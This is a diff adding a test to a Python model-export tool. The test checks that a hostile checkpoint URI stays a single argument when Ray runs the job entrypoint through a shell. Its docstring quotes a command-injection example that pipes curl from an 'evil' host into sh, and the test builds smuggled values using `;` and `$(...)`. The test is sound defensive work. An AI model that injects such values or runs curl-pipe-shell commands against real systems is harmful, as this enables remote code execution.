@@ -6,6 +6,8 @@ FSDPCheckpointManager lays it out for world size 1 (verl/utils/checkpoint/fsdp_c
 from __future__ import annotations
 
 import json
+import shlex
+import subprocess
 import sys
 from pathlib import Path
 
@@ -156,3 +158,21 @@ def test_a_merge_that_would_not_fit_in_memory_is_refused_before_it_starts(tmp_pa
                                           r"allows 0\.0 GB: export with --memory-gb 1 so Ray runs it"):
         export_model.export(tmp_path, tmp_path / "model", memory_bytes=shards)
     assert not (tmp_path / "model.partial").exists()
+
+
+def test_a_hostile_checkpoint_uri_stays_one_argument_of_the_exports_entrypoint(tmp_path: Path) -> None:
+    """`checkpointUri` comes from an outputs file: `gs://b/x;curl evil|sh;#` must reach the merger as
+    a path, never as shell commands on the head (Ray runs the entrypoint with a shell)."""
+    marker = tmp_path / "pwned"
+    folder = f"x;touch {marker};#"
+    job = export_model.submission(run_id="r $(touch " + str(marker) + ")", checkpoint_dir=f"/data/{folder}",
+                                  step=None, working_dir="/w", python="echo", verl_dir="/data/verl 0.9")
+    done = subprocess.run(["/bin/sh", "-c", job["entrypoint"]], capture_output=True, text=True, timeout=30,
+                          check=True)
+    assert not marker.exists()
+    assert done.stdout.split("\n")[0] == (
+        f"export_model.py --checkpoint-dir /data/{folder} --target-dir /data/r $(touch {marker})/model "
+        "--verl-dir /data/verl 0.9")
+    assert shlex.split(job["entrypoint"]) == [
+        "echo", "export_model.py", "--checkpoint-dir", f"/data/{folder}",
+        "--target-dir", f"/data/r $(touch {marker})/model", "--verl-dir", "/data/verl 0.9"]
